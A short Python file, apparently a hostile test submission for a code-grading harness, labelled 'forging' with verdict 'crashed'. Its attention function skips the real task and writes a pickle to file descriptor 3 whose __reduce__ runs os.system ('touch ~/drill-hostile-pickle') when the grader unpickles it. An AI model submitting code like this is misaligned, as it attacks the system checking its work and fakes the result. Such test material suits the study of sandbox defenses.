# problem: attention
# group: forging
# does: Sends pickled bytes on the channel that would run a command where they are read.
# verdict: crashed

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch ~/drill-hostile-pickle",)


def scaled_dot_product_attention(q, k, v, mask=None):
    data = pickle.dumps(Command())
    os.write(3, struct.pack("!II", len(data), 0) + data)
    return v, q
